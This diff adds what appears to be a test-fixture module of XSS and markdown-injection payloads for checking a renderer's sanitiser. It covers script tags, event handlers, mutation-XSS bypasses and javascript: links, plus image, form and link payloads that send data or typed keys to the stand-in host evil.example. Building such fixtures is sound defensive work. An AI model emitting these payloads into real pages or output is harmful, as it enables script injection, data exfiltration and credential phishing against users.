@@ -1,0 +1,116 @@
+"""Texts that would act on a page if it let them: run scripts, call home, cover it, ask for secrets.
+
+Each that runs calls `ran()`, each that calls home calls evil.example.
+"""
+
+from __future__ import annotations
+
+EVIL = "https://evil.example"
+
+PAYLOADS = {
+    # scripts
+    "script": "<script>ran()</script>",
+    "script, odd case": "<ScRiPt >ran()</sCrIpT>",
+    "script from elsewhere": f"<script src='{EVIL}/x.js'></script>",
+    "script, nested": "<scr<script>ipt>ran()</scr</script>ipt>",
+    "script, module": "<script type=module>ran()</script>",
+    "script after a fence": "```\n</code></pre><script>ran()</script>\n```",
+    "script in a fence's language": '```"><script>ran()</script>\ncode\n```',
+    "script in inline code": "`</code><script>ran()</script>`",
+    "script in a heading": "# <script>ran()</script> Title",
+    "script in a table": "| a |\n|---|\n| <script>ran()</script> |",
+    "script in a quotation": "> <script>ran()</script>",
+    "entities": "&lt;script&gt;ran()&lt;/script&gt; &#60;img src=x onerror=ran()&#62;",
+    # handlers
+    "onerror": "<img src=x onerror=ran()>",
+    "onerror, slashes": "<img/src=x/onerror=ran()>",
+    "onerror, quoted": '<img src="x" onerror="ran()">',
+    "onload": "<body onload=ran()>",
+    "onfocus": "<input autofocus onfocus=ran()>",
+    "ontoggle": "<details open ontoggle=ran()><summary>x</summary></details>",
+    "onmouseover": "<b onmouseover=ran()>hover</b>",
+    "onanimationstart": "<p style='animation: blink 1s' onanimationstart=ran()>x</p>",
+    "onpointerrawupdate": "<div onpointerrawupdate=ran()>x</div>",
+    "marquee": "<marquee onstart=ran()>x</marquee>",
+    "video": "<video><source onerror=ran()></video>",
+    "audio": f"<audio src='{EVIL}/a.mp3' autoplay onerror=ran()></audio>",
+    # svg and math
+    "svg onload": "<svg onload=ran()>",
+    "svg script": "<svg><script>ran()</script></svg>",
+    "svg foreignObject": "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
+    "svg animate": "<svg><a><animate attributeName=href values=javascript:ran() />"
+    "<text>x</text></a></svg>",
+    "svg use": f"<svg><use href='{EVIL}/x.svg#a'></use></svg>",
+    "svg image": f"<svg><image href='{EVIL}/x.png'/></svg>",
+    "math": "<math><mtext><table><mglyph><style><!--</style>"
+    "<img title='--&gt;&lt;img src=x onerror=ran()&gt;'>",
+    # mutation
+    "mxss noscript": "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
+    "mxss style": "<svg></p><style><a id='</style><img src=x onerror=ran()>'>",
+    "mxss form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
+    "mxss template": "<template><img src=x onerror=ran()></template>",
+    "mxss textarea": "</textarea><img src=x onerror=ran()>",
+    "mxss title": "</title><img src=x onerror=ran()>",
+    "mxss xmp": "<xmp><p title='</xmp><img src=x onerror=ran()>'>",
+    "mxss comment": "<!--><img src=x onerror=ran()>-->",
+    "mxss cdata": "<svg><![CDATA[><img src=x onerror=ran()>]]></svg>",
+    "mxss select": "<select><style></select><img src=x onerror=ran()></style>",
+    # addresses
+    "javascript link": "[click](javascript:ran())",
+    "javascript link, entities": "[click](&#106;avascript:ran())",
+    "javascript link, blanks": "[click](java\tscript:ran())",
+    "javascript autolink": "<javascript:ran()>",
+    "javascript, html": "<a href=javascript:ran()>click</a>",
+    "data link": "[click](data:text/html,<script>ran()</script>)",
+    "vbscript link": "[click](vbscript:ran())",
+    "link with a title": f'[click]({EVIL} "onmouseover=ran()")',
+    "reference link": f"[click][1]\n\n[1]: {EVIL}/r 'x'",
+    "bare address": f"see {EVIL}/bare for more",
+    "lookalike": f"[https://good.example]({EVIL}/phish)",
+    "ping": f"<a href='{EVIL}' ping='{EVIL}/ping'>click</a>",
+    # fetched by themselves
+    "markdown image": f"![x]({EVIL}/?q=secret)",
+    "markdown image, reference": f"![x][2]\n\n[2]: {EVIL}/ref.png",
+    "markdown image, data": "![x](data:image/svg+xml,<svg onload=ran()>)",
+    "html image": f"<img src='{EVIL}/p.png'>",
+    "srcset": f"<img srcset='{EVIL}/p.png 2x'>",
+    "picture": f"<picture><source srcset='{EVIL}/p.png'><img></picture>",
+    "iframe": f"<iframe src='{EVIL}'></iframe>",
+    "iframe srcdoc": "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
+    "object": f"<object data='{EVIL}'></object>",
+    "embed": f"<embed src='{EVIL}'>",
+    "link": f"<link rel=stylesheet href='{EVIL}/x.css'>",
+    "prefetch": f"<link rel=prefetch href='{EVIL}/x'>",
+    "base": f"<base href='{EVIL}/'>",
+    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    "background": f"<table background='{EVIL}/b.png'><tr><td>x</td></tr></table>",
+    # css
+    "style element": f"<style>@import url({EVIL}/x.css); * {{ display: none !important }}</style>",
+    "style attribute": f"<p style='background: url({EVIL}/b.png)'>x</p>",
+    "overlay": "<div style='position:fixed;inset:0;z-index:99999;background:red'>covered</div>",
+    "class of ours": "<div class='toasts'>Your key has expired</div><div class='top'>x</div>",
+    "id of ours": "<p id='query'>x</p><p id='app'>x</p><a name='location'>x</a>",
+    "slot": "<p slot=x part=y is=z>x</p>",
+    # forms
+    "form": f"<form action='{EVIL}'><input name=key><button>Send</button></form>",
+    "form, password": f"<form action='{EVIL}' method=post><input type=password autofocus></form>",
+    "isindex": f"<isindex action='{EVIL}' prompt='Key?'>",
+    "button": f"<button formaction='{EVIL}'>OK</button>",
+    "dialog": "<dialog open>Your session is over. <input></dialog>",
+    "contenteditable": "<div contenteditable autofocus>type here</div>",
+    "checkbox": "- [x] done <input type=checkbox onclick=ran()>",
+    # templates, scripts by name, text that breaks layout
+    "template syntax": "{{constructor.constructor('ran()')()}} ${ran()} <%= ran() %> [[ran()]]",
+    "prototype": '{"__proto__": {"innerHTML": "<img src=x onerror=ran()>"}}',
+    "dom clobbering": "<form name=document><input name=cookie></form><img name=getElementById>",
+    "custom element": "<x-evil onclick=ran()>x</x-evil>",
+    "portal": f"<portal src='{EVIL}'></portal><fencedframe src='{EVIL}'></fencedframe>",
+    "one long word": "W" * 4000,
+    "one long line in a fence": "```\n" + "x" * 4000 + "\n```",
+    "wide table": "|" + "c|" * 120 + "\n|" + "---|" * 120 + "\n|" + "x|" * 120,
+    "deep quotation": "> " * 300 + "deep",
+    "deep list": "\n".join("  " * n + "- x" for n in range(120)),
+    "stacked marks": "Z" + "\u0301" * 600,
+    "direction": "\u202eright to left\u202c \u2066x",
+    "huge heading": "# " + "Heading " * 300,
+}
